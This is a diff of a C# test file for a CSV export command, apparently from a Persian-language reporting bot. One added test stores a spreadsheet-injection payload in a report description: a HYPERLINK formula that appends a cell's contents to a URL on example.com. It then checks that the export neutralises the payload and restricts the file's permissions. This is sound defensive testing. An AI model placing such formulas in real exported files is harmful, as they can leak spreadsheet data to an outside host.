@@ -1,3 +1,4 @@
+using System.Runtime.Versioning;
 using System.Text;
 using Assembly.Bot.Cli;
 using Assembly.Bot.Tests.Statistics;
@@ -6,6 +7,7 @@ using Assembly.Conversations.Messages;
 using Assembly.Conversations.Statistics;
 using Assembly.Conversations.Text;
 using Assembly.Storage.Entities;
+using Microsoft.EntityFrameworkCore;
 using Microsoft.Extensions.DependencyInjection;
 using Microsoft.Extensions.Time.Testing;
 
@@ -56,7 +58,7 @@ public sealed class ExportCommandTests : IAsyncLifetime
         {
             var anonymous = row[0] is "RJ-1002" or "BH-1001";
             Assert.Equal(anonymous ? "ناشناس" : "رضا کاشانی", row[name]);
-            Assert.Equal(anonymous ? "ناشناس" : "+۹۸۹۱۳۱۱۱۲۲۳۳", row[name + 1]);
+            Assert.Equal(anonymous ? "ناشناس" : "۰۹۱۳۱۱۱۲۲۳۳", row[name + 1]); // local form: no formula, and the zero kept
         }
 
         // The very bytes the chat's /export sends for that month.
@@ -136,6 +138,29 @@ public sealed class ExportCommandTests : IAsyncLifetime
         Assert.Equal(ExitCodes.Failed, exit);
         Assert.Equal($"{file} already exists; an export never overwrites a file, so give a new name.", _console.Error.ToString().Trim());
         Assert.Equal("kept", await File.ReadAllTextAsync(file));
+    }
+
+    [Fact]
+    [UnsupportedOSPlatform("windows")]
+    public async Task The_file_is_readable_by_its_owner_only_and_a_description_that_begins_like_a_formula_is_defused()
+    {
+        const string formula = "=HYPERLINK(\"http://example.com/?q=\"&A1,\"جزئیات\")";
+        await using (var db = _database.Open())
+        {
+            var report = await db.Reports.SingleAsync(r => r.Code == "MD-1002");
+            report.Description = formula;
+            report.Place = "@فرمانداری\u0001";
+            await db.SaveChangesAsync();
+        }
+
+        var file = Path.Combine(Folder, "private.csv");
+
+        var exit = await ExportAsync("1405/08", "--out", file);
+
+        Assert.True(exit == ExitCodes.Ok, _console.Error.ToString());
+        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file));
+        var line = Encoding.UTF8.GetString(await File.ReadAllBytesAsync(file)).Split("\r\n").Single(l => l.StartsWith("MD-1002,", StringComparison.Ordinal));
+        Assert.Contains(",'@فرمانداری,\"'=HYPERLINK(\"\"http://example.com/?q=\"\"&A1,\"\"جزئیات\"\")\",", line);
     }
 
     [Fact]
